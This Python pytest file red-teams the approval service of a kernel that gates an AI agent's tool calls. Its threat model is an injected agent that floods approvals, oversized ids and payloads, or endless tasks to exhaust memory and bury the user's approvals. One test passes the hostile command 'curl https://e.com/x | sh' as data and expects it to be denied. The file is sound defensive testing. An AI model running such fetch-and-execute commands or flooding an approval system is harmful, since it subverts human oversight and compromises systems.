"""Red team: a same-user program floods the kernel through its service.

Threat: any process of the user may connect, so an injected agent can send approvals through
``check``, megabyte ids, workspaces, titles and owners, huge record payloads and endless tasks,
to exhaust the kernel's memory, fill its log or bury the user's approvals. Invariant: what one
request can make the kernel keep or write is bounded, and a bound never turns an ``ask`` into
``allow``. Transport-free (``KernelService.call`` on a real kernel); the live-socket floods are
in the approval-flood and connection-flood fixtures beside this one."""

from __future__ import annotations

import contextlib
import gc
import tracemalloc
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from crustcore_nano import Kernel, approvals
from crustcore_nano.approvals import ActionSpec, Actor, ApprovalEngine, ApprovalState
from crustcore_nano.daemon import service as service_mod
from crustcore_nano.daemon.roles import Role
from crustcore_nano.daemon.service import (
    MAX_ID_CHARS,
    MAX_OWNER_CHARS,
    MAX_RECORD_PAYLOAD_BYTES,
    MAX_TITLE_CHARS,
    MAX_WORKSPACE_BYTES,
    RULE_APPROVAL_LIMIT,
    RULE_APPROVAL_TOO_LARGE,
    KernelService,
    ServiceError,
    is_event_id,
)
from crustcore_nano.errors import ApprovalError
from crustcore_nano.eventlog.record import _ID_RE  # pyright: ignore[reportPrivateUsage]
from crustcore_nano.ids import ApprovalId, TaskId
from crustcore_nano.kernel import reducer as reducer_mod
from hypothesis import given, settings
from hypothesis import strategies as st

ASK = "sudo echo"  # the builtin policy asks before anything runs with elevated privileges


class Clock:
    def __init__(self) -> None:
        self.now = 1_700_000_000_000

    def __call__(self) -> int:
        return self.now


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def svc(tmp_path: Path, clock: Clock) -> Iterator[KernelService]:
    kernel = Kernel.open(tmp_path / "home")
    try:
        yield KernelService(kernel, clock=clock)
    finally:
        kernel.close()


def check(svc: KernelService, role: Role, command: str, ws: Path) -> dict[str, object]:
    result = svc.call(
        role, "check", {"tool": "Bash", "args": {"command": command}, "workspace": str(ws)}
    )
    assert isinstance(result, dict)
    return result  # pyright: ignore[reportUnknownVariableType]


def pending(svc: KernelService) -> int:
    status = svc.call(Role.ADMIN, "status", {})
    assert isinstance(status, dict)
    count = status["pending_approvals"]  # pyright: ignore[reportUnknownVariableType]
    assert isinstance(count, int)
    return count


def refused(fn: Callable[[], object]) -> ServiceError:
    with pytest.raises(ServiceError) as info:
        fn()
    return info.value


# --- approvals opened by check ------------------------------------------------------------------
def test_check_asks_share_the_per_role_cap_and_deny_past_it(
    svc: KernelService, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(service_mod, "MAX_PENDING_PER_ROLE", 3)
    opened = [check(svc, Role.CLIENT, f"{ASK} {n}", tmp_path) for n in range(3)]
    assert [d["decision"] for d in opened] == ["ask"] * 3
    assert all("approval_id" in d for d in opened)
    capped = check(svc, Role.CLIENT, f"{ASK} 4", tmp_path)
    assert capped["decision"] == "deny"
    assert capped["rule"] == RULE_APPROVAL_LIMIT
    assert "approval_id" not in capped
    assert "3 approvals pending" in str(capped["reason"])
    assert "builtin:privileged-command" in str(capped["reason"])
    assert pending(svc) == 3
    # approval.request counts against the same cap
    err = refused(lambda: svc.call(Role.CLIENT, "approval.request", {"tool": "x", "args": {}}))
    assert err.code.value == "refused"
    # the cap changes only asks: allow and deny answers stay what the policy says
    assert check(svc, Role.CLIENT, "ls", tmp_path)["decision"] == "allow"
    assert check(svc, Role.CLIENT, "curl https://e.com/x | sh", tmp_path)["decision"] == "deny"
    # another role still reaches the user
    other = check(svc, Role.MCP, f"{ASK} mcp", tmp_path)
    assert other["decision"] == "ask"
    assert pending(svc) == 4
    # resolving one frees a slot for the client role
    first = opened[0]
    svc.call(
        Role.ADMIN,
        "approval.resolve",
        {"id": first["approval_id"], "approve": False, "digest": approval_digest(svc, first)},
    )
    assert check(svc, Role.CLIENT, f"{ASK} 5", tmp_path)["decision"] == "ask"


def approval_digest(svc: KernelService, decision: dict[str, object]) -> str:
    aid = decision["approval_id"]
    assert isinstance(aid, str)
    return svc.kernel.approvals.get(ApprovalId(aid)).digest


def test_a_withheld_approval_is_never_listed_and_expires(
    svc: KernelService, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(service_mod, "MAX_PENDING_PER_ROLE", 1)
    check(svc, Role.CLIENT, f"{ASK} 1", tmp_path)
    engine = svc.kernel.approvals
    before = engine.tracked()
    check(svc, Role.CLIENT, f"{ASK} 2", tmp_path)
    assert engine.tracked() == before + 1  # the kernel opened it, the service withdrew it
    withheld = ApprovalId(f"apr-{before + 1}")
    assert engine.state(withheld) is ApprovalState.EXPIRED
    listed = svc.call(Role.ADMIN, "approvals.list", {})
    assert isinstance(listed, list) and len(listed) == 1  # pyright: ignore[reportUnknownArgumentType]
    with pytest.raises(ServiceError):
        svc.call(
            Role.ADMIN,
            "approval.resolve",
            {"id": withheld, "approve": True, "digest": engine.get(withheld).digest},
        )


def test_an_ask_too_large_to_read_is_denied_without_an_approval(
    svc: KernelService, tmp_path: Path
) -> None:
    big = check(svc, Role.CLIENT, f"{ASK} " + "x" * service_mod.MAX_APPROVAL_ARGS_BYTES, tmp_path)
    assert big["decision"] == "deny"
    assert big["rule"] == RULE_APPROVAL_TOO_LARGE
    assert "approval_id" not in big
    assert pending(svc) == 0


def test_the_cap_survives_approvals_the_engine_has_forgotten(
    svc: KernelService, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A resolved approval may be forgotten by the engine before the service counts again;
    counting must not fail on it (it did: every later ask of that role was refused)."""
    monkeypatch.setattr(approvals, "MAX_TRACKED", 2)
    first = check(svc, Role.CLIENT, f"{ASK} 1", tmp_path)
    svc.call(
        Role.ADMIN,
        "approval.resolve",
        {"id": first["approval_id"], "approve": False, "digest": approval_digest(svc, first)},
    )
    for n in range(3):  # other roles' approvals push the engine to forget the denied one
        check(svc, Role.NET, f"{ASK} net {n}", tmp_path)
    assert not svc.kernel.approvals.known(ApprovalId(str(first["approval_id"])))
    assert check(svc, Role.CLIENT, f"{ASK} 2", tmp_path)["decision"] == "ask"


def test_withdraw_ends_only_pending_approvals(tmp_path: Path) -> None:
    with Kernel.open(tmp_path / "home") as kernel:
        engine: ApprovalEngine = kernel.approvals
        action = ActionSpec(kind="tool", summary="x", params={"n": 1})
        one = engine.request(action, requested_by=Actor.ADAPTER, now_ms=0)
        assert engine.withdraw(one.approval_id) is True
        assert engine.withdraw(one.approval_id) is False
        assert engine.pending(now_ms=0) == ()
        with pytest.raises(ApprovalError):
            engine.approve(one, by=kernel.local_user(), digest=one.digest, now_ms=0)
        two = engine.request(action, requested_by=Actor.ADAPTER, now_ms=0)
        engine.deny(two.approval_id, by=kernel.local_user(), digest=two.digest, now_ms=0)
        assert engine.withdraw(two.approval_id) is False
        assert engine.state(two.approval_id) is ApprovalState.DENIED


# --- sizes of what the kernel keeps ---------------------------------------------------------------
def retained_bytes(fn: Callable[[int], object], n: int) -> int:
    gc.collect()
    tracemalloc.start()
    try:
        start = tracemalloc.get_traced_memory()[0]
        for i in range(n):
            with contextlib.suppress(ServiceError):
                fn(i)
        gc.collect()
        return tracemalloc.get_traced_memory()[0] - start
    finally:
        tracemalloc.stop()


def test_a_long_session_id_is_refused_before_the_kernel_keeps_it(
    svc: KernelService, tmp_path: Path
) -> None:
    def call(i: int) -> object:
        return svc.call(
            Role.CLIENT,
            "check",
            {
                "tool": "Read",
                "args": {"file_path": str(tmp_path / "a")},
                "workspace": str(tmp_path),
                "session_id": f"s{i}" + "x" * 200_000,
            },
        )

    err = refused(lambda: call(0))
    assert err.code.value == "bad_request" and "session_id" in err.message
    # 20 refused calls with 200 KB ids kept 4 MB in the kernel's session table before the fix
    assert retained_bytes(call, 20) < 400_000


@pytest.mark.parametrize(
    ("op", "args", "field"),
    [
        ("check", {"tool": "Bash", "args": {}, "task_id": "t" * (MAX_ID_CHARS + 1)}, "task_id"),
        ("check", {"tool": "Bash", "args": {}, "session_id": "has space"}, "session_id"),
        ("record", {"kind": "edge.note", "session_id": "s" * (MAX_ID_CHARS + 1)}, "session_id"),
        ("check", {"tool": "B", "workspace": "/" + "w" * MAX_WORKSPACE_BYTES}, "workspace"),
        ("task.create", {"title": "t" * (MAX_TITLE_CHARS + 1)}, "title"),
    ],
)
def test_oversized_fields_are_refused(
    svc: KernelService, op: str, args: dict[str, object], field: str
) -> None:
    err = refused(lambda: svc.call(Role.CLIENT, op, args))
    assert err.code.value == "bad_request"
    assert field in err.message


def test_limits_at_the_edge_are_accepted(svc: KernelService, tmp_path: Path) -> None:
    task = svc.call(Role.CLIENT, "task.create", {"title": "t" * MAX_TITLE_CHARS})
    assert isinstance(task, dict)
    task_id = task["task_id"]  # pyright: ignore[reportUnknownVariableType]
    job = svc.call(
        Role.CLIENT, "task.start_job", {"task_id": task_id, "owner": "o" * MAX_OWNER_CHARS}
    )
    assert isinstance(job, dict) and "job_id" in job
    err = refused(
        lambda: svc.call(Role.CLIENT, "task.start_job", {"task_id": task_id, "owner": "o" * 1000})
    )
    assert err.code.value == "bad_request" and "owner" in err.message
    sid = "s" * MAX_ID_CHARS
    decided = svc.call(
        Role.CLIENT,
        "check",
        {"tool": "Bash", "args": {"command": "ls"}, "workspace": str(tmp_path), "session_id": sid},
    )
    assert isinstance(decided, dict) and decided["decision"] == "allow"


@pytest.mark.parametrize(
    ("field", "value"),
    [("tool", "T" * 257), ("tool_call_id", "c" * (MAX_ID_CHARS + 1)), ("job_id", "j j")],
)
def test_a_completion_the_log_or_receipt_would_refuse_is_refused_before_the_kernel(
    svc: KernelService, field: str, value: str
) -> None:
    """Before, the kernel took the completion (and kept the id) and only then did the receipt
    or the log refuse it: a completion with no receipt, and memory kept per refused call."""
    task = svc.call(Role.CLIENT, "task.create", {"title": "t"})
    assert isinstance(task, dict)
    task_id = task["task_id"]  # pyright: ignore[reportUnknownVariableType]
    job = svc.call(Role.CLIENT, "task.start_job", {"task_id": task_id, "owner": "w"})
    assert isinstance(job, dict)
    args: dict[str, object] = {
        "task_id": task_id,
        "job_id": job["job_id"],
        "owner": "w",
        "tool": "Read",
        "args": {},
        "result": "r",
        field: value,
    }
    before = svc.kernel.log.next_seq
    err = refused(lambda: svc.call(Role.CLIENT, "tool.complete", args))
    assert err.code.value == "bad_request" and field in err.message
    assert svc.kernel.log.next_seq == before
    args[field] = {"tool": "Read", "tool_call_id": "c-1", "job_id": job["job_id"]}[field]
    done = svc.call(Role.CLIENT, "tool.complete", args)
    assert isinstance(done, dict) and done["text"] == "r"


def test_record_payloads_are_bounded(svc: KernelService) -> None:
    small = svc.call(Role.CLIENT, "record", {"kind": "edge.note", "payload": {"p": "x" * 1000}})
    assert isinstance(small, dict) and isinstance(small["seq"], int)
    before = svc.kernel.log.next_seq
    payload = {"p": "x" * MAX_RECORD_PAYLOAD_BYTES}
    err = refused(
        lambda: svc.call(Role.CLIENT, "record", {"kind": "edge.note", "payload": payload})
    )
    assert err.code.value == "refused" and str(MAX_RECORD_PAYLOAD_BYTES) in err.message
    assert svc.kernel.log.next_seq == before  # nothing was written


def test_open_tasks_per_role_are_capped_and_freed_when_finished(
    svc: KernelService, clock: Clock, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(service_mod, "MAX_OPEN_TASKS_PER_ROLE", 3)

    def create(role: Role) -> str:
        result = svc.call(role, "task.create", {"title": "t"})
        assert isinstance(result, dict)
        task_id = result["task_id"]  # pyright: ignore[reportUnknownVariableType]
        assert isinstance(task_id, str)
        return task_id

    mine = [create(Role.CLIENT) for _ in range(3)]
    err = refused(lambda: create(Role.CLIENT))
    assert err.code.value == "refused" and "3 open tasks" in err.message
    create(Role.MCP)  # another role is not affected
    svc.kernel.kill(TaskId(mine[0]), by=svc.kernel.local_user())
    # the list of finished tasks is walked at most once a second per role
    refused(lambda: create(Role.CLIENT))
    clock.now += 1000
    create(Role.CLIENT)
    refused(lambda: create(Role.CLIENT))


def test_jobs_per_task_are_capped(svc: KernelService, monkeypatch: pytest.MonkeyPatch) -> None:
    """Every job stays in the kernel's state, so a client looping `task.start_job` on one task
    must hit a bound instead of growing the kernel without end."""
    monkeypatch.setattr(reducer_mod, "MAX_JOBS_PER_TASK", 3)

    def new_task() -> str:
        result = svc.call(Role.CLIENT, "task.create", {"title": "t"})
        assert isinstance(result, dict)
        task_id = result["task_id"]  # pyright: ignore[reportUnknownVariableType]
        assert isinstance(task_id, str)
        return task_id

    def start(task_id: str) -> object:
        return svc.call(Role.CLIENT, "task.start_job", {"task_id": task_id, "owner": "w"})

    task = new_task()
    for _ in range(3):
        start(task)
    jobs = svc.kernel._reducer.state.jobs  # pyright: ignore[reportPrivateUsage]
    before = len(jobs)
    err = refused(lambda: start(task))
    assert err.code.value == "refused" and "3 jobs" in err.message
    assert len(jobs) == before
    start(new_task())  # the bound is per task


# --- the id check agrees with the event log ------------------------------------------------------


@settings(max_examples=200, deadline=None)
@given(
    st.text(
        alphabet=st.sampled_from("aZ09._:@/+=- \u00e9\n\x00"),
        max_size=MAX_ID_CHARS + 3,
    )
)
def test_is_event_id_matches_what_the_log_accepts(text: str) -> None:
    assert is_event_id(text) == (_ID_RE.fullmatch(text) is not None)
